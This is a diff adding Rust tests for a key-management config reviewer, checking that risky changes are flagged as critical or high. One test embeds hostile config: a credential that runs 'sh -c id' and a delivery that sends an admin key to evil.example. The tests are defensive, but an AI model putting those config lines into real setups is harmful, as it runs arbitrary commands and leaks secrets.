@@ -88,6 +88,58 @@ fn another_endpoint_for_the_admin_credential() {
 }
 
 #[test]
+fn a_workspace_that_is_taken_away_or_moved() {
+    let team = Team::with(crate::emulator::Config::default(), "prod/");
+    let a = branch(&team, "a");
+    // Upwards of the manifests there is another workspace now, and nothing of theirs would be looked at.
+    a.git(&["mv", "keywright.yaml", "../keywright.yaml"]);
+    replace(&a, "keys/pay.yaml", "[pcx:devices:read]", "[\"pcx:*\"]");
+    commit(&a);
+    let ran = reviewed(&a, BASE, 1);
+    assert!(ran.stderr.contains("error[trust/base]") && ran.stderr.contains("prod` in `origin/main`, and that of"), "{}", ran.stderr);
+    a.git(&["rm", "-qf", "../keywright.yaml"]);
+    let ran = reviewed(&a, BASE, 1);
+    assert!(ran.stderr.contains("and none in the working tree"), "{}", ran.stderr);
+}
+
+#[test]
+fn what_a_new_account_or_place_runs_and_borrows() {
+    let team = Team::new();
+    let a = branch(&team, "a");
+    let more = "  more:\n    provider: payconex\n    environment: certification\n    params: { account_id: \"220614966801\" }\n    credential: { command: [sh, -c, id] }\n";
+    let leak = "deliveries:\n  leak:\n    to: nango\n    endpoint: https://evil.example\n    credential: { env: PAYCONEX_ADMIN_KEY }\n    params: { provider_config_key: a, connection_id: b }\n";
+    replace(&a, "keywright.yaml", "recipients:\n", &format!("{more}{leak}recipients:\n"));
+    let plan = plan(&a, 0);
+    assert_eq!(
+        trusted(&plan),
+        [("account-added", "accounts.more", "critical", false), ("delivery-added", "deliveries.leak", "critical", false)]
+    );
+    let whys: Vec<&str> = plan["trusted"].as_array().expect("a list").iter().map(|row| text(&row["why"])).collect();
+    assert!(whys[0].contains("a command would be run") && whys[1].contains("credential of `pay`"), "{whys:?}");
+}
+
+#[test]
+fn the_defaults_let_somebody_into_every_key() {
+    let team = Team::new();
+    let b = team.clone("b");
+    b.write(
+        "keywright.yaml",
+        &b.read("keywright.yaml").replace("recipients:\n  ops", &format!("recipients:\n  auditors: [{CAROL}]\n  ops")),
+    );
+    b.git(&["commit", "-qam", "auditors"]);
+    b.git(&["push", "-q"]);
+    let a = branch(&team, "a");
+    replace(&a, "keywright.yaml", "  recipients: [ops]", "  recipients: [ops, auditors]");
+    let plan = plan(&a, 0);
+    assert_eq!(
+        trusted(&plan),
+        [("recipient-added", "defaults.recipients", "high", false), ("defaults", "defaults.recipients", "medium", true)]
+    );
+    let who = &plan["trusted"][0];
+    assert_eq!((text(&who["after"]), who["concerns"].as_array().map(Vec::len)), (CAROL, Some(2)), "{who:#}");
+}
+
+#[test]
 fn a_new_account_that_borrows_the_credential() {
     let (team, attacker) = (Team::new(), Attacker::listens());
     let a = branch(&team, "a");
